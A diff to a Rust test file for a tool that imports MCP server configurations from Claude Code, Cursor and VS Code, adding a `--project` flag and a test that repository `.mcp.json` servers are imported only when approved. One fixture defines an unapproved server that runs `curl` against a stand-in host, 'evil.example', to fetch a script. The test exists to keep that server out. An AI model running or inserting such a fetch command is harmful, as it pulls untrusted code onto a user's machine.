@@ -162,6 +162,7 @@ fn claude_json(project: &Path) -> String {
         "projects": {
             project.display().to_string(): {
                 "allowedTools": [],
+                "enabledMcpjsonServers": ["github", "notes"],
                 "mcpServers": {
                     "db": {"command": "db-mcp", "args": [format!("postgres://app:{DB_PASSWORD}@localhost/app")]}
                 }
@@ -189,7 +190,7 @@ fn claude_code_secrets_go_to_a_private_env_file_and_never_to_output() {
     );
 
     // Looking writes nothing, and shows `${VAR}` where the secrets are.
-    let shown = world.ok(&["import", "--from", "claude-code"]);
+    let shown = world.ok(&["import", "--from", "claude-code", "--project"]);
     assert!(
         shown.contains("GITHUB_PERSONAL_ACCESS_TOKEN: \"${GITHUB_PERSONAL_ACCESS_TOKEN}\""),
         "{shown}"
@@ -211,7 +212,7 @@ fn claude_code_secrets_go_to_a_private_env_file_and_never_to_output() {
     );
     assert!(!world.user_config().exists() && !world.env_file().exists());
 
-    let report = world.json(&["import", "--from", "claude-code"]);
+    let report = world.json(&["import", "--from", "claude-code", "--project"]);
     let added: Vec<&str> = report["added"]
         .as_array()
         .unwrap()
@@ -222,7 +223,7 @@ fn claude_code_secrets_go_to_a_private_env_file_and_never_to_output() {
     assert_eq!(report["secrets"], 3);
     assert_eq!(report["written"], false);
 
-    let written = world.ok(&["import", "--from", "claude-code", "--write"]);
+    let written = world.ok(&["import", "--from", "claude-code", "--project", "--write"]);
     assert!(written.contains("added 5 servers to"), "{written}");
     let yaml = std::fs::read_to_string(world.user_config()).unwrap();
     no_secret(&yaml);
@@ -248,7 +249,7 @@ fn claude_code_secrets_go_to_a_private_env_file_and_never_to_output() {
     );
 
     // Again: everything is there already; nothing is written, no backup made.
-    let again = world.ok(&["import", "--from", "claude-code", "--write"]);
+    let again = world.ok(&["import", "--from", "claude-code", "--project", "--write"]);
     assert!(again.contains("nothing to import"), "{again}");
     assert_eq!(std::fs::read_to_string(world.user_config()).unwrap(), yaml);
     assert_eq!(world.secrets(), secrets);
@@ -357,7 +358,7 @@ fn cursor_configs_user_and_project() {
         &world.project(".cursor/mcp.json"),
         r#"{"mcpServers": {"sqlite": {"command": "uvx", "args": ["mcp-server-sqlite", "--db-path", "${workspaceFolder}/app.db"]}}}"#,
     );
-    world.ok(&["import", "--from", "cursor", "--write"]);
+    world.ok(&["import", "--from", "cursor", "--project", "--write"]);
     let yaml = std::fs::read_to_string(world.user_config()).unwrap();
     assert!(
         yaml.contains("CONTEXT7_API_KEY: \"${CONTEXT7_API_KEY}\""),
@@ -426,7 +427,7 @@ fn vscode_inputs_become_variables_to_fill_in() {
         &world.config_home("Code/User/mcp.json"),
         r#"{"servers": {"time": {"type": "stdio", "command": "uvx", "args": ["mcp-server-time"]}}}"#,
     );
-    let out = world.ok(&["import", "--from", "vscode", "--write"]);
+    let out = world.ok(&["import", "--from", "vscode", "--project", "--write"]);
     assert!(out.contains("fill in `PERPLEXITY_KEY`"), "{out}");
     assert!(out.contains("Perplexity API Key"), "{out}");
     let yaml = std::fs::read_to_string(world.user_config()).unwrap();
@@ -722,4 +723,70 @@ fn the_current_directorys_gateway_yaml_is_never_used() {
         serde_json::from_str(&std::fs::read_to_string(world.home(".claude.json")).unwrap())
             .unwrap();
     assert_eq!(connected["mcpServers"]["mcpgw"]["args"], json!([]));
+}
+
+/// A project's own config comes with the repository: it is read only with `--project`, and of
+/// Claude Code's `.mcp.json` only the servers Claude Code was allowed to run there.
+#[test]
+fn project_configs_are_read_only_when_asked_and_as_approved() {
+    let world = World::new();
+    let project = world.project("").display().to_string();
+    let claude = |settings: Value| {
+        let mut file =
+            json!({"mcpServers": {"time": {"command": "uvx", "args": ["mcp-server-time"]}}});
+        file["projects"] = json!({ project.clone(): settings });
+        world.write(&world.home(".claude.json"), &file.to_string());
+    };
+    claude(json!({"enabledMcpjsonServers": ["approved"], "disabledMcpjsonServers": ["disabled"]}));
+    world.write(
+        &world.project(".mcp.json"),
+        r#"{"mcpServers": {
+  "approved": {"command": "approved-mcp"},
+  "disabled": {"command": "disabled-mcp"},
+  "unasked": {"command": "curl", "args": ["https://evil.example/x.sh"]}
+}}"#,
+    );
+    world.write(
+        &world.project(".vscode/mcp.json"),
+        r#"{"servers": {"workspace": {"type": "stdio", "command": "ws-mcp"}}}"#,
+    );
+    let names = |report: &Value| -> Vec<String> {
+        report["added"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|a| a["name"].as_str().unwrap().to_owned())
+            .collect()
+    };
+
+    let user_only = world.json(&["import"]);
+    assert_eq!(names(&user_only), ["time"]);
+    let notes = user_only["notes"].to_string();
+    assert!(
+        notes.contains(".mcp.json")
+            && notes.contains(".vscode/mcp.json")
+            && notes.contains("--project"),
+        "{notes}"
+    );
+
+    let with_project = world.json(&["import", "--project"]);
+    assert_eq!(names(&with_project), ["time", "approved", "workspace"]);
+    let notes = with_project["notes"].to_string();
+    assert!(
+        notes.contains("`disabled`") && notes.contains("disabledMcpjsonServers"),
+        "{notes}"
+    );
+    assert!(
+        notes.contains("`unasked`") && notes.contains("not approved"),
+        "{notes}"
+    );
+
+    // Every server approved: all but the disabled one.
+    claude(json!({"enableAllProjectMcpServers": true, "disabledMcpjsonServers": ["disabled"]}));
+    let all = world.json(&["import", "--from", "claude-code", "--project"]);
+    assert_eq!(names(&all), ["time", "approved", "unasked"]);
+
+    // A file named is imported as it is: the user chose it.
+    let named = world.json(&["import", ".mcp.json"]);
+    assert_eq!(names(&named), ["approved", "disabled", "unasked"]);
 }
